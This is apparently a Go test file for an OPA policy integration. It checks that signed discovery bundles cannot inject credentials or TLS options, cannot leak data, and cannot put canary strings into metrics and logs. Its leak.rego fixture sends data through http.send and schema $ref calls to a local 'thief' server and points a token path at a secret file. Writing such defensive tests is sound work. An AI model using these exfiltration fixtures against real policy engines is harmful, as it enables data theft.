package opa_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/graphveil/graphveil/policy/opa/opatest"
)

// TestDiscoveryTakesNoFile: whoever signs the discovery bundle cannot have the files
// of the process sent to a service, or its identity used there, and cannot take the
// bound off the memory of decision logs.
func TestDiscoveryTakesNoFile(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	salt := filepath.Join(t.TempDir(), "salt")
	if err := os.WriteFile(salt, []byte("CANARYsalt"), 0o600); err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var got []string
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, fmt.Sprint(q.URL, q.Header))
		http.NotFound(w, q)
	}))
	defer thief.Close()
	bundles := `"bundles": {"main": {"service": %q, "signing": {"keyid": "release"}, "polling": {"min_delay_seconds": 1, "max_delay_seconds": 1}}}`
	config := func(revision, service, rest string) {
		r.set("config", revision, "-- data.json --\n{"+fmt.Sprintf(bundles, service)+rest+"}\n")
	}
	r.set("main", "m1", things("one"))
	config("c1", "thief", fmt.Sprintf(`, "services": {"thief": {"url": %q, "Credentials": {"bearer": {"token_path": %q}}}}`, thief.URL, salt))
	r.start("discovery: {service: control, resource: /bundles/config, signing: {keyid: release}, polling: {min_delay_seconds: 1, max_delay_seconds: 1}}\n" +
		"decision_logs: {service: control, reporting: {min_delay_seconds: 600, max_delay_seconds: 600}}\nstatus: {prometheus: true}\n")
	refused := func(what string) {
		t.Helper()
		r.wait(what+" to be refused", func() bool {
			err := r.plugins.Ready()
			return err != nil && strings.Contains(err.Error(), "discovery may not bring "+what)
		})
	}
	refused("credentials")
	config("c2", "thief", fmt.Sprintf(`, "services": [{"name": "thief", "url": %q, "TLS": {"ca_cert": %q}}]`, thief.URL, salt))
	refused("tls")
	// OPA puts the service of the start over that of discovery, option by option.
	config("c2b", "second", `, "services": {"second": {"ALLOW_INSECURE_TLS": true}}`)
	refused("allow_insecure_tls")
	// Its Rego is evaluated by OPA itself, with all of OPA's builtins.
	r.set("config", "c3", "-- data.json --\n{"+fmt.Sprintf(bundles, "control")+`, "services": {"other": {"url": "http://127.0.0.1:1"}}}
-- leak.rego --
package leak

sent := http.send({"method": "POST", "url": "`+thief.URL+`", "raw_body": "x", "raise_error": false})

read := json.verify_schema({"$ref": "`+thief.URL+`"})

match := json.match_schema({}, {"$ref": "`+thief.URL+`"})
`)
	r.loaded()
	if !r.serves("/one") {
		t.Error("the discovered bundle is not in force")
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 0 {
		t.Errorf("the service was asked: %q", got)
	}
	// OPA puts the configuration of the start over the discovered one, as it was written.
	r.wait("the buffer that is bounded by events", func() bool { return len(r.gathered("decision_logs_buffer_size_events")) == 1 })
	if bytes := r.gathered("decision_logs_buffer_size_bytes"); len(bytes) != 0 {
		t.Error("the buffer of decision logs is that without a bound")
	}
}

// TestMessagesStayOut: neither a metric nor the console has the query of a URL, where
// signatures of links are, or what a bundle says that nobody has signed.
func TestMessagesStayOut(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.Set("main", repack(t, append(unpack(t, opatest.Bundle(t, "v1", things("one"), r.key)), regular("/CANARYfile"+strings.Repeat("x", 100_000)+".rego", "package x"))))
	section := opatest.BundleSection("main") + strings.ReplaceAll(strings.TrimPrefix(opatest.BundleSection("other"), "bundles:\n"), "service: control", "service: nobody\n    resource: /bundles/other?sig=CANARYquery")
	config := r.Config(r.key, section+"status: {console: true, prometheus: true}\n")
	r.startWith(strings.Replace(config, "\nkeys:\n", "\n  nobody: {url: 'http://127.0.0.1:1'}\nkeys:\n", 1))
	r.wait("both to fail", func() bool {
		err := r.plugins.Ready()
		return err != nil && strings.Contains(err.Error(), "CANARYfile") && strings.Contains(err.Error(), "connection refused")
	})
	r.wait("a report on the console", func() bool {
		log := r.log.String()
		return strings.Contains(log, "Status Log") && strings.Contains(log, "connection refused")
	})
	r.wait("OPA's metrics", func() bool { return len(r.gathered("last_bundle_request")) == 2 })
	families, err := r.registry.(prometheus.Gatherer).Gather()
	if err != nil {
		t.Fatal(err)
	}
	text, err := json.Marshal(families)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(text), "CANARY") || strings.Contains(string(text), "bundle_failed_load_counter") {
		t.Error("a metric has the message")
	}
	if long := strings.Repeat("x", 10_000); strings.Contains(r.log.String(), long) || strings.Contains(r.plugins.Ready().Error(), long) {
		t.Error("the log or readiness has a name without end")
	}
	if strings.Contains(r.log.String(), "CANARYquery") || strings.Contains(r.plugins.Ready().Error(), "CANARYquery") {
		t.Error("the log or readiness has the query")
	}
}

// TestLongPolling: a server that holds a request until there is something new is
// heard at once, and stopping does not wait for it.
func TestLongPolling(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.set("main", "v1", things("one"))
	r.start("bundles: {main: {service: control, signing: {keyid: release}, polling: {long_polling_timeout_seconds: 30}}}\n")
	r.loaded()
	for _, next := range []string{"two", "three"} {
		r.wait("a request that waits", func() bool { return r.Waiting() == 1 })
		r.set("main", next, things(next))
		changed := time.Now()
		r.wait(next, func() bool { return r.serves("/" + next) })
		if took := time.Since(changed); took > 15*time.Second {
			t.Errorf("%s took %v", next, took)
		}
	}
	r.wait("a request that waits", func() bool { return r.Waiting() == 1 })
	r.Set("main", opatest.Bundle(t, "evil", things("evil"), opatest.NewKey(t)))
	r.wait("a bundle of another key to be refused", func() bool { return r.rejected() > 0 })
	if !r.serves("/three") {
		t.Error("a bundle of another key is in force")
	}
	stopping := time.Now()
	r.stop()
	if took := time.Since(stopping); took > 4*time.Second {
		t.Errorf("stopping took %v", took)
	}
}
